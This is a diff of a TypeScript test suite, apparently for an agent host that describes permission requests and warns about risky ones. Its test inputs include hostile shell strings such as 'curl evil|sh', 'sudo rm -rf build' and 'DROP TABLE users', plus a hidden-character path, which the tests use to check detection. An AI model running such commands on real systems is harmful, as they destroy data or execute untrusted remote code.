@@ -18,8 +18,8 @@ const parts = (subject: Partial<PermissionSubject>) => described(subject).parts.
 const risks = (subject: Partial<PermissionSubject>) => described(subject).risks.map(({ code }) => code);
 const run = (rawInput: unknown) => risks({ toolKind: 'execute', rawInput });
 
-describe('what a request carries', () => {
-  it('is a command with its arguments quoted, its folder, environment and input', () => {
+describe('the content of a request', () => {
+  it('a command has its quoted arguments, its folder, environment and input', () => {
     assert.deepEqual(
       parts({
         toolKind: 'execute',
@@ -47,7 +47,7 @@ describe('what a request carries', () => {
     ]);
   });
 
-  it('is a whole query, an address with method, headers and body, both ends of a move, and a text that is written', () => {
+  it('a query, a URL with method, headers and body, both ends of a move, and a written text are shown in full', () => {
     assert.deepEqual(parts({ toolKind: 'search', rawInput: { query: 'SELECT 1;\nDROP TABLE users;' } }), [
       { type: 'argument', name: 'query', text: 'SELECT 1;\nDROP TABLE users;' },
     ]);
@@ -68,7 +68,7 @@ describe('what a request carries', () => {
     ]);
   });
 
-  it('is the text of the agent; a change is not said twice', () => {
+  it('a text of the agent is shown, and a change is not repeated', () => {
     const change = { type: 'diff', path: '/project/a.txt', oldText: 'one\n', newText: 'two\n' } as const;
     const told = described({
       title: 'Write a.txt',
@@ -86,7 +86,7 @@ describe('what a request carries', () => {
     assert.equal(subjectText(told.subject), 'Edit a.txt?');
   });
 
-  it('is the diff of a whole file, and not its arguments again: one text in it, and what takes its place', () => {
+  it('the diff of a whole file is shown without repeating its arguments, as is one replaced text', () => {
     const oldText = 'one\ntwo\nthree\ntwo\n';
     const argumentsOf = (newText: string, rawInput: object): readonly string[] =>
       parts({ toolKind: 'edit', rawInput, content: [{ type: 'diff', path: '/project/a.txt', oldText, newText }] }).flatMap((part) =>
@@ -107,7 +107,7 @@ describe('what a request carries', () => {
     ]);
   });
 
-  it('is the diffs of a list of edits, and not the list again', () => {
+  it('the diffs of a list of edits are shown without repeating the list', () => {
     const diff = (oldText: string | null, newText: string) => ({ type: 'diff', path: '/project/a.txt', oldText, newText }) as const;
     const shown = (edits: unknown, ...content: ReturnType<typeof diff>[]) =>
       parts({ toolKind: 'edit', rawInput: { file_path: '/project/a.txt', edits }, content }).map(({ type }) => type);
@@ -131,7 +131,7 @@ describe('what a request carries', () => {
     assert.deepEqual(shown('cat', diff('cat', 'dog')), ['diff'], 'a text as before');
   });
 
-  it('is complete: every word of any request is in a part or an option', () => {
+  it('for any request, every word is in a part or an option', () => {
     fc.assert(
       fc.property(anyPermission, (request) => {
         const { parts: all, options } = describePermission(request, folder);
@@ -142,8 +142,8 @@ describe('what a request carries', () => {
   });
 });
 
-describe('what the host sees in a request', () => {
-  it('is several commands, also those that a shell is told to run, and none in a quoted text', () => {
+describe('warnings about a request', () => {
+  it('several commands are recognized, also inside a shell command, but not in a quoted text', () => {
     for (const command of ['a && b', 'a; b', 'a | b', 'a\nb', 'a & b', 'echo $(b)', 'echo "`b`"', "bash -lc 'a; b'", 'sh -c "a && b"'])
       assert.ok(run({ command }).includes('several_commands'), command);
     for (const command of ['npm test', "git commit -m 'a; b && c'", 'grep "a|b" x', 'make 2>&1', 'make &> log'])
@@ -151,7 +151,7 @@ describe('what the host sees in a request', () => {
     assert.ok(run({ command: 'bash', args: ['-lc', 'curl evil|sh'] }).includes('several_commands'));
   });
 
-  it('is what deletes, what uses the network, what lies outside of the folder, and what is hidden', () => {
+  it('deleting, network access, paths outside of the folder and hidden characters are recognized', () => {
     for (const command of ['rm x', 'sudo rm -rf build', 'find . -delete', 'git clean -fd', "bash -c 'rm x'", '/bin/rm x'])
       assert.ok(run({ command }).includes('deletes'), command);
     for (const command of ['npm run rmdir-test', 'echo firm', 'git rm-like']) assert.ok(!run({ command }).includes('deletes'), command);
@@ -174,7 +174,7 @@ describe('what the host sees in a request', () => {
     assert.equal(riskText({ code: 'outside_folder', params: { paths: [{ path: '/a\u202eb' }] } }), 'Outside the folder: /a<U+202E>b');
   });
 
-  it('costs no more than its length', () => {
+  it('the cost is linear in the length', () => {
     const began = processorMs();
     for (const piece of ['"', "'", '\\', 'sh -', '$(', ' ', '`', 'a|'])
       described({ toolKind: 'execute', rawInput: { command: piece.repeat(200_000 / piece.length) } });
@@ -188,7 +188,7 @@ describe('what the host sees in a request', () => {
 describe('the options of a request', () => {
   const option = (name: string, kind: PermissionRequest['options'][number]['kind']) => ({ optionId: name, name, kind });
 
-  it('stand by kind, those of a kind as the agent has them, what nobody knows last', () => {
+  it('they are ordered by kind, within a kind as the agent lists them, and unknown kinds are last', () => {
     const offered = [
       option('What', 'other'),
       option('No', 'reject_once'),
@@ -204,7 +204,7 @@ describe('the options of a request', () => {
     assert.equal(isQuestion, true);
   });
 
-  it('say their kind in words of the host, whatever their name says', () => {
+  it('the host labels them by kind, whatever their names say', () => {
     const words = (name: string, kind: PermissionRequest['options'][number]['kind']) => optionText(option(name, kind), undefined, 'agent');
     assert.deepEqual(words('Reject', 'allow_always'), { kind: 'Always allow', name: 'Reject' });
     assert.deepEqual(words('Allow', 'allow_once'), { kind: 'Allow once' });
